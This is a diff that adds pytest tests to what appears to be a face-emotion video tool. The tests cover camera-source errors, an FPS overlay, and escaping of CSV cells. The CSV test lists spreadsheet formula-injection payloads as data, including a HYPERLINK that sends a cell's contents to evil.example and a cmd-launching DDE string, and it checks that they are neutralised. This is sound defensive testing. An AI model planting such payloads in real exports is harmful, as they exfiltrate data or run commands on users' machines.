@@ -16,6 +16,7 @@ from emotion.core import frames
 from emotion.core.frames import match_tracks
 from emotion.core.timeline import (MIN_TRACK_SECONDS, TIMELINE_POINTS, add_point, new_series, plot_timeline,
                                    progress_line, series_points, summarize, update_timeline)
+from emotion.io.errors import UserError
 
 from conftest import ROOT, SHIPPED_SEVEN, run_here, run_main, write_video
 
@@ -308,3 +309,50 @@ def test_a_flat_face_crop_keeps_its_track_by_overlap():
     other = rng.normal(size=256).astype(np.float32)
     tracks = [{"id": 1, "box": [100, 100, 80, 80], "history": [], "signature": textured}]
     assert match_tracks(tracks, [[102, 101, 80, 80]], signatures=[other / np.linalg.norm(other)])[0]["id"] != 1
+
+
+@pytest.mark.parametrize("source", ["99999999999999999999", "2147483648", "-1"])
+def test_a_camera_index_out_of_range_is_one_line(source, capsys):
+    """webcam --source 99999999999999999999: OpenCV's overload traceback before."""
+    from emotion.core.frames import open_video
+    with pytest.raises(UserError, match=r"cannot open (camera|video source)"):
+        open_video(source)
+
+
+def test_a_superscript_digit_source_is_a_file_name_not_a_camera():
+    from emotion.core.frames import open_video
+    with pytest.raises(UserError, match="cannot open video source '²': not a readable video file"):
+        open_video("²")
+
+
+def test_csv_cells_from_class_names_cannot_be_spreadsheet_formulas(tmp_path):
+    """Class names come from the model file: '=HYPERLINK(...)' was written raw into --csv (formula injection)."""
+    from emotion.core.timeline import open_records
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "calm"]
+    face = {"track": 1, "box": [1, 2, 3, 4], "emotion": names[0], "confidence": 0.5,
+            "probabilities": dict(zip(names, (0.5, 0.2, 0.1, 0.1, 0.1)))}
+    with open_records(None, str(tmp_path / "r.csv"), names) as write:
+        write({"frame": 0, "time": 0.0, "faces": [face]})
+    with open(tmp_path / "r.csv", newline="") as f:
+        header, row = list(csv.reader(f))
+    cells = header + row
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert header[-5:] == ["'" + n for n in names[:4]] + ["calm"] and row[7] == "'" + names[0]
+    assert row[:7] == ["0", "0.0", "1", "1", "2", "3", "4"]
+
+
+def test_the_fps_counter_waits_for_a_full_window_and_reads_on_a_white_frame():
+    """'42 FPS' on the first frames (two frames 24 ms apart), in yellow on whatever the frame holds."""
+    import collections
+
+    from emotion.core.frames import FPS_WINDOW, draw_fps, measured_fps
+    done = collections.deque([0.0, 0.024], maxlen=FPS_WINDOW)
+    assert measured_fps(done) is None
+    done.extend(i * 0.1 for i in range(1, FPS_WINDOW + 1))
+    assert measured_fps(done) == pytest.approx(10.0)
+    white = np.full((120, 160, 3), 255, np.uint8)
+    draw_fps(white, None)
+    draw_fps(white, 10.0)
+    corner = white[4:26, 4:70]
+    assert corner.mean() < 128  # the text sits on a dark box, so a light frame does not swallow it
+    assert ((corner[..., 0] < 100) & (corner[..., 1] > 200) & (corner[..., 2] > 200)).any()  # BGR yellow text
